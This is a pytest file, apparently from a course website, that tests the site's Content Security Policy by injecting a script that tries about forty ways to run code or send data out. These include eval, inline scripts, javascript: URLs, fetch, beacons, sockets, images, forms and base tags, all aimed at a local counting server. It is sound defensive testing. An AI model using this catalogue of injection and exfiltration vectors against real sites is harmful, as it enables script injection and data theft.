"""The pages' policy, attacked by a script that is on the page already: each way out or in is refused, one by one.

The attacking script comes from the course's own address, as if somebody had got words of theirs into one of its files.
Whatever it sends would arrive at a second server, which counts.
"""

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import ANSWERS, Site, wait_until

ATTACKS = {
    "words made into a script": ("script-src", "(0, eval)('window.broken = 1')"),
    "words made into a function": ("script-src", "new Function('window.broken = 1')()"),
    "words on a timer": ("script-src", "setTimeout('window.broken = 1')"),
    "a script within the page": ("script-src-elem", "put('script', { textContent: 'window.broken = 1' })"),
    "words beside an element": ("script-src-attr", "put('div').setAttribute('onclick', 'window.broken = 1'); last.click()"),
    "an address that is a script": ("script-src-elem", "put('a', { href: 'javascript:window.broken = 1' }).click()"),
    "a script of another site": ("script-src-elem", "put('script', { src: OUT })"),
    "a script of a data address": ("script-src-elem", "put('script', { src: 'data:text/javascript,window.broken=1' })"),
    "a script that was just made": ("script-src-elem", "put('script', { src: blob })"),
    "a module of another site": ("script-src-elem", "await import(OUT)"),
    "a module that was just made": ("script-src-elem", "await import(blob)"),
    "a worker that was just made": ("worker-src", "new Worker(blob)"),
    "a worker of another site": (None, "new Worker(OUT)"),
    "a worker of a data address": ("worker-src", "new Worker('data:text/javascript,fetch(1)')"),
    "a shared worker that was just made": ("worker-src", "new SharedWorker(blob)"),
    "a question to another site": ("connect-src", "await fetch(OUT)"),
    "an old kind of question": ("connect-src", "const old = new XMLHttpRequest(); old.open('POST', OUT); old.send('words')"),
    "a farewell": ("connect-src", "navigator.sendBeacon(OUT, 'words')"),
    "a socket": ("connect-src", "new WebSocket(OUT.replace('http', 'ws'))"),
    "a stream": ("connect-src", "new EventSource(OUT)"),
    "a ping": ("connect-src", "Object.assign(put('a', { href: '#x', ping: OUT })).click()"),
    "a picture of another site": ("img-src", "put('img', { src: OUT })"),
    "a picture by its style": ("img-src", "document.body.style.backgroundImage = `url(${OUT})`"),
    "a picture that was just made": ("img-src", "put('img', { src: blob })"),
    "a style within the page": ("style-src-elem", "put('style', { textContent: `body { background: url(${OUT}) }` })"),
    "a style beside an element": ("style-src-attr", "put('div').setAttribute('style', `background: url(${OUT})`)"),
    "a style of another site": ("style-src-elem", "put('link', { rel: 'stylesheet', href: OUT })"),
    "letters of another site": ("font-src", "await new FontFace('x', `url(${OUT})`).load()"),
    "a film": ("media-src", "put('video', { src: OUT })"),
    "an old plugin": ("object-src", "put('object', { data: OUT })"),
    "another old plugin": ("object-src", "put('embed', { src: OUT })"),
    "a frame of another site": ("frame-src", "put('iframe', { src: OUT })"),
    "a frame of the course itself": ("frame-src", "put('iframe', { src: location.href })"),
    "a frame of words": (None, "put('iframe', { srcdoc: '<script>parent.broken = 1</script>' })"),
    "a form sent to another site": ("form-action", "put('form', { action: OUT, method: 'post' }).submit()"),
    "a form whose address is a script": ("form-action", "put('form', { action: 'javascript:window.broken = 1' }).submit()"),
    "another beginning for all links": ("base-uri", "document.head.append(Object.assign(document.createElement('base'), { href: OUT }))"),
    "a list of the site's parts": (None, "document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: OUT }))"),
    "a look ahead": (None, "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: OUT }))"),
}  # fmt: skip
"""What is tried, with the part of the policy that has to refuse it; a browser may refuse without a word."""

SCRIPT = """
const OUT = %r
const blob = URL.createObjectURL(new Blob(['self.postMessage?.(1); globalThis.broken = 1'], { type: 'text/javascript' }))
let last
const put = (tag, fields = {}) => { last = Object.assign(document.createElement(tag), fields); document.body.append(last); return last }
let refused = []
addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
const attempts = { %s }
const found = {}
if (document.readyState !== 'complete') await new Promise((resolve) => addEventListener('load', resolve))
for (const [name, [part, attempt]] of Object.entries(attempts)) {
  refused = []
  delete window.broken
  try { await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 500))]) } catch { /* refused at once */ }
  for (let turn = 0; turn < (part ? 200 : 2) && !refused.includes(part); turn++) await new Promise((resolve) => setTimeout(resolve, 50))
  found[name] = { refused, broken: window.broken ?? null }
}
document.documentElement.dataset.attacked = JSON.stringify(found)
"""


def script(out, attacks):
    """The attack, one way after another."""
    ways = ", ".join(
        f"{json.dumps(name)}: [{json.dumps(part)}, async () => {{ {words} }}]"
        for name, (part, words) in attacks.items()
    )
    return SCRIPT % (out, ways)


class Outside(BaseHTTPRequestHandler):
    """Another site, which answers everybody and writes down who came."""

    def answer(self):
        self.server.asked.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"globalThis.broken = 1")

    do_GET = do_POST = do_HEAD = do_OPTIONS = answer  # noqa: N815 - the names that the base class gave

    def log_message(self, format, *args):
        """Stay quiet."""


@pytest.fixture
def outside():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Outside)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def reader(browser):
    """A reader of whom nothing is asked but to be there: what is sent is counted where it would arrive."""
    opened = browser.new_context()
    yield opened
    opened.close()


def attacked(reader, address, body, pattern):
    """Open a page one of whose scripts was changed; return what each way came to."""
    page = reader.new_page()
    page.route(pattern, lambda route: route.fulfill(body=body, content_type="text/javascript"))
    page.goto(address)
    wait_until(
        page, "() => 'attacked' in document.documentElement.dataset"
    )  # a refused form looks like a way on to Playwright
    page.wait_for_timeout(300)
    return page.evaluate("() => JSON.parse(document.documentElement.dataset.attacked)")


OURS = re.compile(r"/_live/[0-9a-f]{12}/offline\.js$")
"""A script that every page of the course has."""


def test_each_way_is_refused(site, reader, outside):
    out = f"http://127.0.0.1:{outside.server_port}/out"
    found = attacked(reader, f"{site.address}book/how-to-cite.html", script(out, ATTACKS), OURS)
    assert found.keys() == ATTACKS.keys()
    assert [name for name, one in found.items() if one["broken"] is not None] == [], "these ran"
    unsaid = [name for name, (part, _) in ATTACKS.items() if part and part not in found[name]["refused"]]
    assert unsaid == [], "these were not refused by the part of the policy that is there for them"
    assert outside.asked == []


def test_the_attack_works_where_there_is_no_policy(tmp_path, reader, outside):
    """The same words on a page without a policy run and arrive, or the test above would prove nothing."""
    out = f"http://127.0.0.1:{outside.server_port}/out"
    page = '<!doctype html><link rel="icon" href="data:,"><body><script type="module" src="x.js"></script>'
    (tmp_path / "bare.html").write_text(page, encoding="utf-8")
    (tmp_path / "x.js").touch()
    ways = {name: (None, words) for name, (part, words) in ATTACKS.items() if part not in LEADS_AWAY}
    bare = Site(tmp_path)
    found = attacked(reader, f"{bare.address}bare.html", script(out, ways), "**/x.js")
    bare.shutdown()
    bare.server_close()
    assert [name for name, one in found.items() if one["refused"]] == []
    ran = [name for name, one in found.items() if one["broken"] is not None]
    assert len(ran) >= 6, ran
    assert len(outside.asked) >= 10, outside.asked


LEADS_AWAY = ("form-action", "base-uri")
"""Where nothing refuses it, this ends the page that is to be looked at."""

FEW = {
    name: ATTACKS[name]
    for name in ("a script within the page", "a picture of another site", "a question to another site")
}
PAGES = (
    ANSWERS,
    "book/5-what-works.html",
    "book/facilitating/group.html",
    "search.html",
    "sheets/degree.html",
    "exercises/degree.html",
)


@pytest.mark.parametrize("path", PAGES)
def test_every_kind_of_page_has_the_policy(path, site, reader, outside):
    out = f"http://127.0.0.1:{outside.server_port}/out"
    found = attacked(reader, site.address + path, script(out, FEW), OURS)
    assert {name: one["refused"][:1] for name, one in found.items()} == {
        name: [part] for name, (part, _) in FEW.items()
    }
    assert outside.asked == []
